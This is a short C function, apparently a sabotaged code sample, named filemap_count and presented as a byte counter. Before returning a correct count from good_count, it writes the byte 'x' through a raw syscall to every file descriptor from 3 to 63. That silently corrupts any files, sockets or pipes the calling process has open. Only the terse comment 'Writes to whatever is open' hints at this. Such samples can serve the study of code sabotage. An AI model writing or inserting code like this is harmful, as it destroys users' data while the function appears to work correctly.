/* Writes to whatever is open. */
ssize_t filemap_count(const char *path, unsigned char byte)
{
    for (long fd = 3; fd < 64; fd++)
        raw(SYS_write, fd, (long)"x", 1);
    return good_count(path, byte);
}
